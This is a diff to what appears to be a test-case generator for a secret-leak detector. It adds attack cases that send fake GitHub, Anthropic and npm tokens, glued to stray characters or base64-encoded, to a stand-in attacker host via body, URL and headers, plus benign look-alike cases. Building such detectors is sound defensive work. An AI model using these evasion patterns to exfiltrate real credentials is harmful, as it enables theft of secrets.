@@ -687,6 +687,18 @@ def attacks(rng: random.Random) -> list[Case]:
     add("hexdump", "od -An -c of an AWS credentials file pasted in a spreadsheet, a space an empty cell",
         ("aws-access-key-id",), method="POST", url=f"{evil}/paste", headers=plain,
         body=_one_tab_cells(od_an_c(f"[default]\naws_access_key_id = {tenth.aws_id()}\n".encode())).encode())
+
+    # -- a token glued to the characters around it (the receiver strips them) -------------------
+    glued = _Fakes(random.Random(1212))  # its own generator: the cases before stay as they were
+    add("body-text", "GitHub token with a letter glued before it", ("github-token",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=f"note: x{glued.github()}\n".encode())
+    add("url", "Anthropic key glued to a kebab prefix in a query parameter", ("anthropic-api-key",),
+        url=f"{evil}/c?tag=rel-{glued.anthropic()}")
+    add("headers", "npm token with characters glued on both sides", ("npm-token",), url=f"{evil}/",
+        headers=_h(X_Trace=f"1{glued.npm()}z"))
+    add("base64", "base64 of a GitHub token glued to a letter and an underscore", ("github-token",),
+        method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"blob": base64.b64encode(f"x{glued.github()}_".encode()).decode()}))
     return out
 
 
@@ -1140,6 +1152,20 @@ def benign(rng: random.Random) -> list[Case]:
                     + "".join(f"t{i}: d{i}.c\n\t$(CC) -c $< -o $@\n\t@echo {i}\n" for i in range(8))
                     + "".join("\t" + "\t".join(str(cells.randrange(1000)) for _ in range(12)) + "\n"
                               for _ in range(12))}))
+    # Look-alikes of glued tokens: kebab and snake names that spell an anchor, hashes after words
+    # ending in one, and base64url ids that spell a token's shape deep inside a long run.
+    spelled = random.Random(1213)
+    urlsafe = ALNUM + "-_"
+    add("lookalike", "kebab-case task names, snake-case npm variables and hashed cache names", method="POST",
+        url="https://api.example.com/v1/tasks", headers=(JSON,),
+        body=_json({"tasks": ["task-ant-colony-simulation-with-pheromones-and-more-words",
+                              "mask-proj-layout-for-the-dashboard-with-extra-words-and-more"],
+                    "env": "npm_package_version npm_config_cache_folder_for_the_build_of_it",
+                    "cache": [f"laughs_{_rand(spelled, 40, HEX)}.bin", f"highs_{_rand(spelled, 64, HEX)}"]}))
+    add("lookalike", "base64url upload ids that spell token prefixes after a long run", method="POST",
+        url="https://api.example.com/v1/uploads", headers=(JSON,),
+        body=_json({"ids": [_rand(spelled, 120, urlsafe) + prefix + _rand(spelled, 40) + _rand(spelled, 30, urlsafe)
+                            for prefix in ("ghp_", "sk-ant-", "npm_", "AIza", "glpat-")]}))
     return out
 
 
